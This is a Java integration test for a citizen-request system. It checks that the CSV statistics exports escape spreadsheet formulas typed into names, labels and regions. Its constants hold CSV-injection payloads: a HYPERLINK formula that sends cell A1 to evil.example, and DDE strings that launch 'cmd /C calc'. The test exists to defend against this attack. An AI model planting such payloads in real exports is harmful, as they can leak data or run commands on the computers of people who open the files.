package ci.milie.stats;

import static ci.milie.support.Api.anonymous;
import static ci.milie.support.Api.as;
import static ci.milie.support.Api.asSysadmin;
import static ci.milie.support.Api.uniqueEmail;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;

import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import ci.milie.support.Requests;
import ci.milie.support.TestClock;
import ci.milie.support.TestTokens;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.specification.RequestSpecification;

/**
 * Names and labels typed by people reach the CSV exports, which OSEP opens in a spreadsheet: a cell
 * that would run as a formula is written as text (a leading single quote), figures as they are. Regions
 * are codes; an older request's free text is counted as UNMAPPED and never written.
 */
@QuarkusTest
class StatsCsvInjectionTest {

    static final String FORMULA_NAME = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Voir\")";
    static final String FORMULA_LABEL = "@SUM(1+1)*cmd|' /C calc'!A0";
    static final String FORMULA_REGION = "+1+cmd|' /C calc'!A0";

    @Inject
    TestClock clock;

    @Inject
    EntityManager em;

    private static String administrationId;
    private static String categoryCode;

    @BeforeEach
    void oneAdministrationAndCategoryWithFormulas() {
        clock.reset();
        if (administrationId != null) {
            return;
        }
        String code = "F" + UUID.randomUUID().toString().substring(0, 8).toUpperCase();
        administrationId = asSysadmin().body(Map.of("code", code, "name", FORMULA_NAME + " " + code, "kind", "AGENCY",
                "contactEmail", "contact@" + code.toLowerCase() + ".gouv.ci", "answerReviewRequired", false))
                .post("/api/v1/administrations").then().statusCode(201).extract().path("id");
        categoryCode = "G" + UUID.randomUUID().toString().substring(0, 8).toUpperCase();
        asSysadmin().body(Map.of("code", categoryCode, "labelFr", FORMULA_LABEL, "labelEn", FORMULA_LABEL,
                "applicableTypes", List.of("COMPLAINT"), "defaultAdministrationId", administrationId))
                .post("/api/v1/categories").then().statusCode(201);
        Map<String, Object> complaint = Requests.complaint(categoryCode, uniqueEmail("formula"));
        complaint.put("location", new HashMap<>(Map.of("region", "ABIDJAN", "locality", "Yopougon")));
        String id = Requests.submitAnonymously(complaint).getString("id");
        // A region is a code now; free text survives only in older requests V24 could not map.
        QuarkusTransaction.requiringNew().run(() -> em.createNativeQuery(
                "update citizen_request set region = ?1 where id = cast(?2 as uuid)")
                .setParameter(1, FORMULA_REGION).setParameter(2, id).executeUpdate());
        as(TestTokens.of("osep")).body(Map.of("administrationId", administrationId))
                .post("/api/v1/requests/" + id + "/routing").then().statusCode(200);
    }

    private static RequestSpecification supervisor() {
        return as(TestTokens.of("supervisor")).accept("text/csv");
    }

    private static List<CSVRecord> csv(RequestSpecification spec, String path) throws IOException {
        return StatsResourceTest.parse(spec.get(path).then().statusCode(200).contentType(startsWith("text/csv"))
                .extract().asString());
    }

    private static String today() {
        return LocalDate.now(ZoneOffset.UTC).toString();
    }

    @Test
    void theAdministrationsExportWritesAFormulaNameAsText() throws IOException {
        CSVRecord row = csv(supervisor().queryParam("administrationId", administrationId), "/api/v1/stats/administrations")
                .get(0);
        assertEquals("'" + FORMULA_NAME + " " + row.get("code"), row.get("name"));
        assertEquals("1", row.get("received"), "figures are not touched");
    }

    @Test
    void theCategoriesExportWritesAFormulaLabelAsText() throws IOException {
        CSVRecord row = csv(supervisor().queryParam("administrationId", administrationId), "/api/v1/stats/categories")
                .stream().filter(r -> r.get("code").equals(categoryCode)).findFirst().orElseThrow();
        assertEquals("'" + FORMULA_LABEL, row.get("label"));
        assertEquals("1", row.get("received"));
    }

    @Test
    void theOverviewExportCountsAFormulaRegionAsUnmapped() throws IOException {
        CSVRecord row = csv(supervisor().queryParam("administrationId", administrationId), "/api/v1/stats/overview")
                .stream().filter(r -> r.get("figure").equals("receivedByRegion")).findFirst().orElseThrow();
        assertEquals("UNMAPPED", row.get("key"));
        assertEquals("1", row.get("value"));
    }

    @Test
    void theQuarterlyExportCountsAFormulaRegionAsUnmapped() throws IOException {
        LocalDate now = LocalDate.now(ZoneOffset.UTC);
        String quarter = now.getYear() + "-Q" + ((now.getMonthValue() - 1) / 3 + 1);
        CSVRecord row = csv(supervisor().queryParam("quarter", quarter),
                "/api/v1/stats/administrations/" + administrationId + "/quarterly").stream()
                .filter(r -> r.get("figure").equals("receivedByRegion")).findFirst().orElseThrow();
        assertEquals("UNMAPPED", row.get("key"));
        assertEquals("1", row.get(quarter));
    }

    @Test
    void thePublicExportWritesAFormulaNameAsText() throws IOException {
        CSVRecord row = csv(anonymous().accept("text/csv").queryParam("from", LocalDate.now(ZoneOffset.UTC).minusDays(2).toString())
                .queryParam("to", today()), "/api/v1/public/stats").stream()
                .filter(r -> r.get("id").equals(administrationId)).findFirst().orElseThrow();
        assertEquals("'" + FORMULA_NAME + " " + row.get("code"), row.get("name"));
    }

    @Test
    void aNegativeFigureIsANumberNotText() {
        assertEquals(-3L, StatsCsv.cell(-3L));
        assertEquals(-0.5, StatsCsv.cell(-0.5));
        assertEquals("'-3", StatsCsv.cell("-3"), "text that looks like a number is still text");
        assertEquals("'\tx", StatsCsv.cell("\tx"));
        assertEquals("'\rx", StatsCsv.cell("\rx"));
        assertEquals("Abidjan", StatsCsv.cell("Abidjan"));
    }
}
